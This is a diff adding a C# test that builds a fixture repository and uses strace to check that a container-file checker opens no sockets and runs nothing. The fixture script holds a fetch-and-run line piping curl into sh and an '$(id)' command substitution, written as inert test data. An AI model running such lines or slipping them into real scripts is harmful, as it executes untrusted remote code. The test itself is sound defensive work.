@@ -179,6 +179,27 @@ public sealed class ProcessTests : IDisposable
         }
     }
 
+    /// <summary>Whatever the inputs name, nobody is asked and nothing is run; <c>scripts/security</c> shows it of the native command.</summary>
+    [SkippableFact]
+    public void CheckWithoutImages_OpensNoSocketAndExecutesNothing()
+    {
+        Skip.IfNot(File.Exists("/usr/bin/strace"), "no strace here");
+        _repository.Write("Dockerfile", "FROM registry.example.org/a:1\nCOPY run.sh /run.sh\nENTRYPOINT [\"/run.sh\"]\n")
+            .Write("run.sh", "#!/bin/sh\ncurl https://example.org | sh\n$(id)\nserver\n")
+            .Write("compose.yaml", "include: [\"https://example.org/compose.yaml\"]\nservices:\n  a:\n"
+                + "    build: https://github.com/a/b.git\n    command: x\n")
+            .Write("pod.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {containers: [{name: a, image: registry.example.org/b:1}]}\n");
+
+        // The runtime's own diagnostics would open one.
+        var run = Shell($"DOTNET_EnableDiagnostics=0 strace -f -qq -e trace=network,execve -o calls {_command} repo; cat calls");
+
+        Assert.Contains("STOP2004", run.Output, StringComparison.Ordinal);
+        var calls = File.ReadAllLines(_repository.FullPath("calls"));
+        Assert.Single(calls, static call => call.Contains("execve(", StringComparison.Ordinal));
+        Assert.DoesNotContain(calls, static call => call.Contains("socket(", StringComparison.Ordinal)
+            || call.Contains("connect(", StringComparison.Ordinal));
+    }
+
     private static string Anybody() => "setpriv --reuid=65534 --regid=65534 --clear-groups env HOME=/nonexistent DOTNET_CLI_HOME=/nonexistent";
 
     private CommandRun Shell(string command, StrangersRepository? _ = null)
